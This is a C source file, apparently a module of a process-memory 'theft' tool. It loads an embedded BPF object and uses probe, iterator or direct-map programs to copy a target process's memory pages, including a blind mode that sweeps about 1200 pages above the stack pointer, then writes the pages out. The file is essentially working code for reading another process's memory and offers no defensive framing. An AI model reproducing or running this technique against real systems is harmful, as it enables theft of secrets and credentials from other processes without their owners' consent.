/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "bpf_pages.h"

#include <bpf/bpf.h>
#include <bpf/libbpf.h>
#include <errno.h>
#include <stdarg.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include "frames.h"
#include "pages.h"

/* Without a map of the target: so much of what lies above its stack pointer. */
#define BLIND_PAGES 1200u

/* pages.bpf.c, compiled. libbpf reads it as it lies. */
static const uint8_t object[] __attribute__((aligned(8))) = {
#include "pages.octets.h"
};

static const char *const programs[] = { "probe", "iterate", "direct" };

static int
silent(enum libbpf_print_level level, const char *format, va_list args)
{
	(void)level;
	(void)format;
	(void)args;
	return 0;
}

/* Which pages: addresses, or frames of the direct map. */
static void
list_pages(const struct theft *t, enum bpf_way way, struct work *w)
{
	for (; t->blind != 0 && way == BPF_PROBE && w->pages < BLIND_PAGES; w->pages++)
		w->page[w->pages] = (uint64_t)w->pages * PAGE;
	for (size_t i = 0; i < t->areas && (t->blind == 0 || way != BPF_PROBE); i++) {
		const struct area *a = &t->area[i];

		for (uint64_t at = a->start; at < a->end && w->pages < PAGES; at += PAGE) {
			uint64_t wanted = way == BPF_DIRECT ? frames_of(t, at) : at;

			if (wanted != 0)
				w->page[w->pages++] = wanted;
		}
	}
}

static struct bpf_object *
load(enum bpf_way way)
{
	const struct bpf_object_open_opts options = { .sz = sizeof(options),
						      .object_name = "pages" };
	struct bpf_object *o = NULL;
	struct bpf_program *p = NULL;
	int error = 0;

	libbpf_set_print(silent);
	o = bpf_object__open_mem(object, sizeof(object), &options);
	if (o == NULL)
		theft_cannot("BPF object: %m");
	bpf_object__for_each_program(p, o)
	    bpf_program__set_autoload(p, strcmp(bpf_program__name(p), programs[way]) == 0);
	error = bpf_object__load(o);
	if (error != 0)
		theft_failed("load a BPF program", -error);
	return o;
}

static struct work *
map_work(const struct bpf_object *o)
{
	const struct bpf_map *map = bpf_object__find_map_by_name(o, "pages.bss");
	void *at = MAP_FAILED;

	if (map != NULL)
		at = mmap(NULL, (sizeof(struct work) + PAGE - 1) & ~(size_t)(PAGE - 1),
			  PROT_READ | PROT_WRITE, MAP_SHARED, bpf_map__fd(map), 0);
	if (at == MAP_FAILED)
		theft_cannot("the BPF map: %m");
	return at;
}

static void
iterate(const struct bpf_link *link)
{
	int fd = bpf_iter_create(bpf_link__fd(link));
	char text[64];

	if (fd < 0)
		theft_failed("a BPF iterator", errno);
	while (read(fd, text, sizeof(text)) > 0)
		continue;
	close(fd);
}

void
bpf_pages(struct theft *t, enum bpf_way way, double seconds)
{
	struct bpf_object *o = load(way);
	struct work *w = map_work(o);
	struct bpf_link *link = NULL;
	double until = 0;
	unsigned done = 0;

	w->target = (unsigned)t->pid;
	w->relative = t->blind != 0;
	w->trigger = (unsigned)getpid();
	list_pages(t, way, w);
	if (w->pages == 0)
		theft_refused("no page of the process is known");
	link = bpf_program__attach(bpf_object__find_program_by_name(o, programs[way]));
	if (link == NULL)
		theft_failed("attach a BPF program", errno);
	if (way == BPF_ITERATE)
		iterate(link);
	until = theft_now() + seconds;
	while (__atomic_load_n(&w->next, __ATOMIC_RELAXED) < w->pages && theft_now() < until)
		usleep(1000); /* is a system call, for direct() */
	bpf_link__destroy(link);
	done = w->next;
	for (unsigned i = 0; i < done; i++)
		t->pages_refused += w->good[i] == 0;
	/* In their order, so that what lies side by side is so in OUT. */
	if (done > t->pages_refused)
		theft_write(t, w->out, (size_t)done * PAGE);
	t->error = EFAULT;
	if (done == 0)
		theft_refused("BPF: the process made no system call");
	bpf_object__close(o);
}
